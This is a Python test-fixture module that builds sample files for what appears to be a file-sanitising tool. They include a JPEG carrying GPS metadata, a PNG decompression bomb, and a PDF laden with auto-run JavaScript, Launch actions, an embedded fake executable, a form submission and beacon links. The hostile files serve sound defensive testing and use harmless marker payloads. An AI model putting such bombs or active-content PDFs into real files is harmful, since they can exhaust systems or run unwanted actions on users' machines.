"""Files as people send them and as attackers make them, made when a test first asks; nothing is stored."""

from __future__ import annotations

import random
import struct
import zlib
from functools import cache
from io import BytesIO
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String
from PIL import Image

PLACE = "SECRETPLACE"


def encoded(image: Image.Image, kind: str, **options: Any) -> bytes:
    out = BytesIO()
    image.save(out, kind, **options)
    return out.getvalue()


def photo(width: int = 1600, height: int = 1200, seed: int = 1) -> Image.Image:
    """Something that compresses like a photograph."""
    dice = random.Random(seed)
    rough = Image.frombytes("RGB", (40, 30), dice.randbytes(40 * 30 * 3))
    smooth = rough.resize((width, height), Image.Resampling.BICUBIC)
    grain = Image.frombytes("L", (width, height), dice.randbytes(width * height))
    return Image.blend(smooth, grain.convert("RGB"), 0.05)


@cache
def jpeg(seed: int = 1) -> bytes:
    return encoded(photo(seed=seed), "JPEG", quality=85)


@cache
def with_gps(turned: int = 6) -> bytes:
    """A phone's picture: lying on its side, with the place, the device and a comment."""
    notes = Image.Exif()
    notes[0x0112] = turned
    notes[0x010F] = PLACE + "-maker"
    notes.get_ifd(0x8825)[1] = "N"
    notes.get_ifd(0x8825)[2] = (11.0, 18.0, 35.0)
    notes.get_ifd(0x8825)[3] = "E"
    notes.get_ifd(0x8825)[4] = (106.0, 6.0, 1.0)
    return encoded(photo(800, 600), "JPEG", exif=notes, comment=PLACE.encode())


@cache
def bomb() -> bytes:
    """30,000 × 30,000 points of one colour in less than a megabyte: one packed strip, many times over."""
    side, strips = 30_000, 300
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    rows = b"\0" * (side + 1) * (side // strips)
    strip = packer.compress(rows) + packer.flush(zlib.Z_FULL_FLUSH)
    total = len(rows) * strips
    checked = struct.pack(">I", total % 65_521 << 16 | 1)  # the Adler sum of so many zeros
    points = b"\x78\xda" + strip * strips + packer.flush() + checked
    header = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)
    chunks = [(b"IHDR", header), (b"IDAT", points), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
        for name, data in chunks
    )


@cache
def animated() -> bytes:
    frames = [Image.new("RGB", (64, 64), colour) for colour in ("red", "green", "blue")]
    return encoded(frames[0], "WEBP", save_all=True, append_images=frames[1:], lossless=True)


@cache
def pdf(pages: int = 1, *, locked: bool = False) -> bytes:
    made = pikepdf.new()
    for _ in range(pages):
        made.add_blank_page(page_size=(200, 200))
    out = BytesIO()
    lock = pikepdf.Encryption(user="mở", owner="khóa") if locked else False
    made.save(out, encryption=lock)
    return out.getvalue()


def _script() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String("app.alert('SECRETSCRIPT')"))


def _note(subtype: str, **more: Any) -> Dictionary:
    return Dictionary(Type=Name.Annot, Subtype=Name("/" + subtype), Rect=[0, 0, 9, 9], **more)


@cache
def acting_pdf() -> bytes:
    """A PDF in which everything that can act or hide does; what a reader may keep says KEPT."""
    made = pikepdf.new()
    page = made.add_blank_page(page_size=(200, 200))
    made.Root.OpenAction = _script()
    made.Root.AA = Dictionary(WC=_script())
    names = Array([String("a"), made.make_indirect(_script())])
    made.Root.Names = Dictionary(JavaScript=Dictionary(Names=names))
    made.attachments["tool.exe"] = pikepdf.AttachedFileSpec(made, b"MZ SECRETFILE " * 9)
    made.docinfo["/Author"] = "SECRETAUTHOR"
    with made.open_metadata() as meta:
        meta["dc:title"] = "SECRETTITLE"
    page.AA = Dictionary(O=Dictionary(S=Name.URI, URI=String("https://x.example/SECRETBEACON")))
    link = Dictionary(S=Name.URI, URI=String("https://ydan.example/KEPTLINK"), Next=_script())
    notes = [
        _note("Link", A=Dictionary(S=Name.Launch, F=String("SECRETLAUNCH.exe"))),
        _note("Link", A=link),
        _note("Link", A=Dictionary(S=Name.URI, URI=String("javascript:SECRETURI"))),
        _note("FileAttachment", FS=Dictionary(Type=Name.Filespec, F=String("SECRETNOTE.exe"))),
        _note("Widget", FT=Name.Tx, T=String("f"), AA=Dictionary(K=_script())),
    ]
    notes[-1]["/A"] = Dictionary(S=Name.SubmitForm, F=String("https://x.example/SECRETFORM"))
    page.Annots = Array([made.make_indirect(note) for note in notes])
    made.Root.AcroForm = Dictionary(Fields=Array([page.Annots[4]]), XFA=String("SECRETXFA"))
    _draw(made, page)
    out = BytesIO()
    made.save(out)
    return out.getvalue()


def _draw(made: pikepdf.Pdf, page: Any) -> None:
    """A phone's picture and a line of text whose font happens to be called like a dangerous key."""
    head = {"Type": Name.XObject, "Subtype": Name.Image, "Filter": Name.DCTDecode}
    size = {"Width": 800, "Height": 600, "ColorSpace": Name.DeviceRGB, "BitsPerComponent": 8}
    picture = Stream(made, with_gps(), **head, **size)
    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    page.Resources = Dictionary(XObject=Dictionary(Im=picture), Font=Dictionary(AA=font))
    drawn = b"q 100 0 0 75 0 0 cm /Im Do Q BT /AA 12 Tf 10 150 Td (KEPTTEXT) Tj ET"
    page.Contents = Stream(made, drawn)


def plain_bytes(data: bytes) -> bytes:
    """A PDF with nothing compressed, to look for words in it."""
    out = BytesIO()
    with pikepdf.open(BytesIO(data)) as made:
        loose = pikepdf.ObjectStreamMode.disable
        level = pikepdf.StreamDecodeLevel.generalized
        made.save(
            out,
            qdf=True,
            object_stream_mode=loose,
            compress_streams=False,
            stream_decode_level=level,
        )
    return out.getvalue()
